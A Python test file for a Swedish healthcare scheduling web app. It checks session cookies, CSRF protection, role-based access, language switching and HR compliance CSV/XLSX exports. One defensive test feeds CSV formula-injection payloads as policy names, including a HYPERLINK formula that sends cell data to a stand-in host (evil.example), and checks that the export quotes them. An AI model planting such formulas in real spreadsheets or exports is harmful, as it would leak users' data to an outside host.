"""The web app over HTTP: login and logout, the session cookie with its CSRF header, pages by role,
the language switch, and HR's compliance report with its CSV tables."""

from __future__ import annotations

import io
import re
from datetime import timedelta

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from api.deps import CSRF_HEADER, SESSION_COOKIE, csrf_token
from api.main import create_app
from kernel.clock import ManualClock
from kernel.db import unit_of_work
from kernel.settings import Settings
from kernel.spreadsheet import XLSX_MEDIA_TYPE, read_csv
from notify.outbox import NullWaker
from policies.availability import create_shift
from policies.core.engine import decide
from policies.core.types import MessageFacts
from policies.ledger import record_contact
from policies.rest_policies import policies_for
from policies.schemas.availability import ShiftCreate
from policies.states import load_states
from tests.factories import Factory
from tests.web_login import form_nonce, log_in, nonce_in


def test_login_sets_a_strict_httponly_cookie_and_a_wrong_token_is_refused(client: TestClient, make: Factory) -> None:
    nurse = make.actor(name="Sara Syster")
    wrong = client.post("/login", data={"token": "vila_nope", "nonce": form_nonce(client)}, follow_redirects=False)
    assert wrong.status_code == 401
    assert "okänd" in wrong.text
    assert client.post("/login", data={"nonce": form_nonce(client)}, follow_redirects=False).status_code == 401
    r = client.post("/login", data={"token": nurse.token, "nonce": form_nonce(client)}, follow_redirects=False)
    assert r.status_code == 303
    cookie = r.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie
    home = client.get("/")
    assert "Hej Sara Syster" in home.text
    assert "default-src 'self'" in home.headers["content-security-policy"]


def test_pages_need_a_session_and_the_right_role(client: TestClient, make: Factory) -> None:
    assert client.get("/me", follow_redirects=False).headers["location"] == "/login"
    nurse = make.actor()
    log_in(client, nurse.token)
    for path in ("/me", "/rosters", "/inbox", "/devices"):
        assert client.get(path).status_code == 200, path
    for path in ("/compose", "/policies", "/dashboard", "/ledger"):
        assert client.get(path).status_code == 403, path
    assert client.get("/messages/not-an-id").status_code == 422


def test_the_cookie_authenticates_the_api_and_changes_need_the_csrf_header(client: TestClient, make: Factory) -> None:
    nurse = make.actor()
    web = log_in(client, nurse.token)
    assert client.get("/api/v1/people/me").json()["id"] == str(nurse.id)
    forged = client.post("/api/v1/people/me/dnd", json={"minutes": 15})
    assert forged.status_code == 403
    assert CSRF_HEADER in forged.json()["message"]
    wrong = client.post("/api/v1/people/me/dnd", json={"minutes": 15}, headers={CSRF_HEADER: "0" * 64})
    assert wrong.status_code == 403
    ok = client.post("/api/v1/people/me/dnd", json={"minutes": 15}, headers={CSRF_HEADER: csrf_token(web)})
    assert ok.status_code == 201, ok.text
    # The page carries the token the script sends back.
    assert csrf_token(web) in client.get("/me").text
    # A bearer token needs no CSRF header: no browser sends it on its own.
    client.cookies.clear()
    assert client.post("/api/v1/people/me/dnd/end", headers=nurse.headers).status_code == 200


def test_logout_needs_the_csrf_token_and_clears_the_cookie(client: TestClient, make: Factory) -> None:
    nurse = make.actor()
    web = log_in(client, nurse.token)
    assert client.post("/logout", data={"csrf": "x"}, follow_redirects=False).status_code == 403
    r = client.post("/logout", data={"csrf": csrf_token(web)}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert SESSION_COOKIE not in client.cookies
    assert client.get("/api/v1/people/me").status_code == 401


def test_swedish_by_default_english_from_the_person_or_the_switch(client: TestClient, make: Factory) -> None:
    nurse = make.actor()
    log_in(client, nurse.token)
    assert '<html lang="sv">' in client.get("/me").text
    assert client.get("/language/en", follow_redirects=False).status_code == 303
    page = client.get("/me").text
    assert '<html lang="en">' in page and "My availability" in page
    assert client.get("/language/xx").status_code == 404


def test_everyone_finds_the_on_call_page_in_swedish_and_english(client: TestClient, make: Factory) -> None:
    nurse = make.actor()
    log_in(client, nurse.token)
    home = client.get("/").text
    assert '<a href="/rosters">Jour och beredskap</a>' in home
    page = client.get("/rosters")
    assert page.status_code == 200
    assert "<h1>Jour och beredskap</h1>" in page.text
    assert '<a href="/rosters" aria-current="page">' in page.text
    assert 'data-page="rosters"' in page.text and 'id="rosters"' in page.text
    # The script's texts travel with the page: the gap warning is spelt out in the person's language.
    assert "Lucka: ingen har {kind} {span}" in page.text
    # Staff read; only those who may keep a roster get the override form.
    assert "data-keeper" not in page.text
    client.get("/language/en")
    english = client.get("/rosters").text
    assert '<html lang="en">' in english and "<h1>On call</h1>" in english
    assert "Gap: nobody is on call {span}" in english
    assert '<a href="/rosters" aria-current="page">On call</a>' in english


def test_managers_get_the_override_form_on_the_on_call_page(client: TestClient, make: Factory) -> None:
    unit = make.group("Medicinavdelning 12")
    boss = make.actor(roles=["staff", "manager"], manages=[unit])
    log_in(client, boss.token)
    page = client.get("/rosters").text
    assert 'data-keeper="1"' in page


def test_pages_load_nothing_from_other_hosts(client: TestClient, make: Factory) -> None:
    hr = make.actor(roles=["staff", "hr", "manager", "admin"])
    log_in(client, hr.token)
    for path in (
        "/",
        "/compose",
        "/messages",
        "/me",
        "/rosters",
        "/inbox",
        "/devices",
        "/policies",
        "/ledger",
        "/dashboard",
    ):
        html = client.get(path).text
        for url in re.findall(r'(?:src|href)="([^"]+)"', html):
            assert url.startswith(("/", "#")), (path, url)
    script = client.get("/static/app.js").text
    assert "http://" not in script.replace("http://www.w3.org/2000/svg", "") and "https://" not in script


def test_compliance_report_and_csv(
    client: TestClient, make: Factory, session_factory: sessionmaker[Session], clock: ManualClock
) -> None:
    now = clock.now()
    unit = make.group("Medicinavdelning 12")
    nurse = make.actor(groups=[unit])
    boss = make.actor(roles=["staff", "manager"], manages=[unit], name="Chef Chefsson")
    hr = make.actor(roles=["hr"])
    with unit_of_work(session_factory) as s:
        for start, end in ((-12, -4), (4, 12)):
            create_shift(
                session=s,
                person_id=nurse.id,
                data=ShiftCreate(planned_start=now + timedelta(hours=start), planned_end=now + timedelta(hours=end)),
                now=now,
            )
        state = load_states(session=s, person_ids=[nurse.id], at=now)[nurse.id]
        policy = policies_for(session=s, person_ids=[nurse.id], at=now)[nurse.id]
        message = MessageFacts(priority="emergency", sender_id=boss.id, override_reason="Masskadeläge")
        decision = decide(state, message, policy, now)
        record_contact(session=s, person_id=nurse.id, decision=decision, message=message, policy=policy, at=now)
    clock.advance(timedelta(days=20))  # the compensatory rest is now overdue

    r = client.get("/api/v1/reports/compliance", params={"weeks": 4}, headers=hr.headers)
    assert r.status_code == 200, r.text
    report = r.json()
    assert sum(report["after_hours"]["Medicinavdelning 12"].values()) == 1
    assert report["overrides"] == [{"sender": "Chef Chefsson", "count": 1}]
    assert sum(report["broken_rest"].values()) == 1
    owed = report["compensatory"]["owed_minutes"]
    assert owed > 0 and report["compensatory"]["overdue_minutes"] == owed
    assert len(report["weeks"]) >= 4

    csv = client.get("/api/v1/reports/compliance/overrides.csv", params={"weeks": 4}, headers=hr.headers)
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    assert csv.text.splitlines() == ["\ufeffsender;overrides", "Chef Chefsson;1"]
    workbook = client.get("/api/v1/reports/compliance/overrides.xlsx", params={"weeks": 4}, headers=hr.headers)
    assert workbook.status_code == 200 and workbook.headers["content-type"] == XLSX_MEDIA_TYPE
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["sender", "overrides"], ["Chef Chefsson", 1]]
    for table in ("after-hours", "broken-rest", "compensatory", "policy-changes"):
        assert client.get(f"/api/v1/reports/compliance/{table}.csv", headers=hr.headers).status_code == 200
    assert client.get("/api/v1/reports/compliance/secrets.csv", headers=hr.headers).status_code == 422
    assert client.get("/api/v1/reports/compliance", params={"weeks": 0}, headers=hr.headers).status_code == 422
    assert client.get("/api/v1/reports/compliance", headers=nurse.headers).status_code == 403

    added = client.post(
        "/api/v1/policies",
        json={"name": "Akutvård", "effective_from": clock.now().isoformat(), "approval_note": "Beslut"},
        headers=hr.headers,
    )
    assert added.status_code == 201
    changes = client.get("/api/v1/reports/compliance", headers=hr.headers).json()["policy_changes"]
    assert [(c["policy"], c["version"]) for c in changes] == [("Akutvård", 1)]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    client: TestClient, make: Factory, clock: ManualClock
) -> None:
    """A policy named "=HYPERLINK(...)" must not become a live formula in HR's spreadsheet."""
    hr = make.actor(roles=["hr"])
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Öppna")', "+1+1", "-2+3", "@SUM(A1)", "Akut"]
    for n, name in enumerate(hostile):
        added = client.post(
            "/api/v1/policies",
            json={"name": name, "effective_from": clock.now().isoformat(), "approval_note": f"-{n}"},
            headers=hr.headers,
        )
        assert added.status_code == 201, added.text
    table = client.get("/api/v1/reports/compliance/policy-changes.csv", headers=hr.headers).text
    rows = read_csv(table)[1:]
    names = sorted(row[0] for row in rows)
    assert names == sorted(["'" + name for name in hostile[:-1]] + ["Akut"])
    assert all(row[4].startswith("'-") for row in rows), "approval notes too"
    assert all(row[1].isdigit() for row in rows), "numbers stay numbers"


def test_a_login_form_posted_from_elsewhere_is_refused(client: TestClient, make: Factory) -> None:
    """Login CSRF: another site's form (no login cookie, or a value of its own) cannot sign this
    browser in, not even with a valid token; the person gets a fresh form and a reason."""
    intruder = make.actor(name="Ingen Behörig")
    no_cookie = client.post("/login", data={"token": intruder.token, "nonce": "forged"}, follow_redirects=False)
    assert no_cookie.status_code == 403
    assert "annan webbplats" in no_cookie.text
    assert client.cookies.get(SESSION_COOKIE) is None
    form_nonce(client)  # the browser has a login cookie of its own now; the forged value still differs
    forged = client.post("/login", data={"token": intruder.token, "nonce": "forged"}, follow_redirects=False)
    assert forged.status_code == 403 and client.cookies.get(SESSION_COOKIE) is None
    log_in(client, intruder.token)
    assert "Hej Ingen Behörig" in client.get("/").text


def test_cookies_are_secure_when_vila_is_public_over_https(
    settings: Settings, clock: ManualClock, make: Factory
) -> None:
    app = create_app(
        settings.model_copy(update={"public_url": "https://vila.region.se"}), clock=clock, waker=NullWaker()
    )
    nurse = make.actor(name="Sara Syster")
    with TestClient(app) as client:
        form = client.get("/login")
        assert "secure" in form.headers["set-cookie"].lower()
        # The test client speaks plain http, so it would not send a Secure cookie back: hand it over.
        client.cookies.set("vila_login", form.cookies["vila_login"], path="/login")
        r = client.post("/login", data={"token": nurse.token, "nonce": nonce_in(form.text)}, follow_redirects=False)
        assert r.status_code == 303
        session_cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith(SESSION_COOKIE))
        assert "secure" in session_cookie.lower() and "httponly" in session_cookie.lower()
